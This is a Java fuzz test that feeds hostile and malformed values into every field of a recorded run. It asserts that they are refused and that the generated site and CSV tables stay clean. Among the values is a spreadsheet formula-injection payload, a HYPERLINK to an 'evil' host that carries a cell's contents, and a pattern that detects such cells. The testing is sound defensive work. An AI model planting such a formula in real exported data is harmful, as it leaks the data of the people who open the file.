package threadmark.pages.site;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import threadmark.Depth;
import threadmark.RealMachine;
import threadmark.command.Started;
import threadmark.machine.MachineFile;
import threadmark.study.experiment.ExperimentFiles;
import threadmark.study.record.ADeliveredRun;
import threadmark.study.record.RunManifest;
import threadmark.study.results.DeliveryRules;
import threadmark.text.Complaint;
import threadmark.text.PlainText;
import threadmark.verdict.Samples;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * A run with any one of its fields changed, by somebody who makes every digest fit: it is refused
 * where it comes in, and where it lies already the site goes on.
 */
@Tag("slow")
@RealMachine
class MutatedRunsTest {

  private static final JsonMapper MAPPER =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  /** A value as JSON, and what is odd about it. */
  private record Odd(String what, String json) {}

  private static final List<Odd> HOSTILE =
      List.of(
          new Odd("line feed", "\"a\\nb\""),
          new Odd("carriage return", "\"a\\rb\""),
          new Odd("escape", "\"a\\u001b[2Jb\""),
          new Odd("nul", "\"a\\u0000b\""),
          new Odd("next line", "\"a\\u0085b\""),
          new Odd("right to left", "\"a\\u202eb\""),
          new Odd("line separator", "\"a\\u2028b\""),
          new Odd("zero width", "\"a\\u200bb\""),
          new Odd("half a pair", "\"a\\ud800b\""),
          new Odd("huge", "\"" + "a".repeat(100_000) + "\""));

  /** What may be a value, and need not fit. */
  private static final List<Odd> ODD =
      List.of(
          new Odd("empty", "\"\""),
          new Odd("formula", "\"=HYPERLINK(\\\"http://evil/?\\\"&A1)\""),
          new Odd("quotes and commas", "\"a,\\\"b\\\",c\""),
          new Odd("a bar", "\"a | b = c\""),
          new Odd("number", "-1"),
          new Odd("large number", "1e308"),
          new Odd("null", "null"),
          new Odd("list", "[]"));

  @TempDir private Path parent;
  private final List<String> taken = new ArrayList<>();

  @Test
  void noFieldOfARunEscapesAndNoneStopsTheSite() throws IOException {
    Path baselines = ADeliveredRun.baselines(parent);
    DeliveryRules rules =
        new DeliveryRules(
            MachineFile.all(baselines),
            ExperimentFiles.read(ResultsRemote.DECLARED),
            List.of(),
            Optional.empty(),
            Samples.START.plus(Duration.ofDays(1)));
    Path results = Files.createDirectory(parent.resolve("results"));
    List<String> fields = fields(ADeliveredRun.in(parent));
    assertThat(fields).hasSizeGreaterThan(40);
    int number = 0;
    int tried = 0;
    for (String field : fields) {
      for (List<Odd> values : List.of(HOSTILE, ODD)) {
        for (Odd value : values) {
          if (!Depth.reaches(tried++, 5)) { // 18 values: each meets one of five fields
            continue;
          }
          Path run = ADeliveredRun.in(results, "20261120T213000Z-%06x".formatted(number++));
          mutate(run, field, value.json());
          String what = "%s with %s".formatted(field, value.what());
          Optional<String> refusal = refusal(rules, run);
          if (values.equals(HOSTILE)) {
            assertThat(refusal).as(what).isPresent();
          }
          refusal.ifPresent(sentence -> assertThat(PlainText.is(sentence)).as(what).isTrue());
          if (refusal.isEmpty()) {
            taken.add(what);
          }
        }
      }
    }
    assertThat(number).isGreaterThan(Depth.of(500, 100));
    // A word that nobody reads as anything else may be any word.
    assertThat(taken).hasSizeLessThan(number / 10);
    assertSiteGoesOn(baselines, results);
  }

  private void assertSiteGoesOn(Path baselines, Path results) throws IOException {
    Path claims = Files.createDirectory(parent.resolve("claims"));
    Files.copy(Path.of("../../claims/example/claims.json"), claims.resolve("example.json"));
    Path out = parent.resolve("site");
    Started site =
        Started.with(
            "site",
            "--quiet",
            "--experiments",
            ResultsRemote.DECLARED.toString(),
            "--claims",
            claims.toString(),
            "--baselines",
            baselines.toString(),
            "--results",
            results.toString(),
            "--out",
            out.toString());
    assertThat(site.exitCode()).as(site.errors()).isZero();
    assertThat(out.resolve("_data/generated/complete.json")).exists();
    try (Stream<Path> files = Files.walk(out)) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        assertThat(Files.readString(file).lines()).as(file.toString()).allMatch(PlainText::is);
      }
    }
    try (Stream<Path> tables = Files.walk(out.resolve("data"))) {
      for (Path table : tables.filter(file -> file.toString().endsWith(".csv")).toList()) {
        assertThat(Files.readString(table)).doesNotContainPattern("(?m)(^|,)\"?[=@]");
      }
    }
  }

  private static Optional<String> refusal(DeliveryRules rules, Path run) {
    try {
      rules.admitted(run);
      return Optional.empty();
    } catch (Complaint told) {
      return Optional.of(told.getMessage());
    }
  }

  /** The places of all values; of a list only its first element's. */
  private static List<String> fields(Path run) throws IOException {
    List<String> fields = new ArrayList<>();
    fields("", MAPPER.readTree(Files.readString(run.resolve("run.json"))), fields);
    fields.remove("/schema");
    return fields;
  }

  private static void fields(String at, JsonNode node, List<String> found) {
    if (node instanceof ObjectNode object) {
      object.properties().forEach(one -> fields(at + "/" + one.getKey(), one.getValue(), found));
    } else if (node instanceof ArrayNode list && !list.isEmpty()) {
      fields(at + "/0", list.get(0), found);
    } else {
      found.add(at);
    }
  }

  /** In the record and in the trial's own file, with a manifest that fits. */
  private static void mutate(Path run, String field, String value) throws IOException {
    replace(run.resolve("run.json"), field, value);
    String ofTrial = "/trials/0";
    if (field.startsWith(ofTrial)) {
      replace(run.resolve("trials/0001-1.trial.json"), field.substring(ofTrial.length()), value);
    }
    RunManifest.write(run);
  }

  private static void replace(Path file, String field, String value) throws IOException {
    JsonNode document = MAPPER.readTree(Files.readString(file));
    int slash = field.lastIndexOf('/');
    JsonNode parent = document.at(field.substring(0, slash));
    JsonNode hostile = MAPPER.readTree(value);
    String name = field.substring(slash + 1);
    if (parent instanceof ObjectNode object) {
      object.set(name, hostile);
    } else if (parent instanceof ArrayNode list) {
      list.set(Integer.parseInt(name), hostile);
    }
    Files.writeString(file, MAPPER.writerWithDefaultPrettyPrinter().writeValueAsString(document));
  }
}
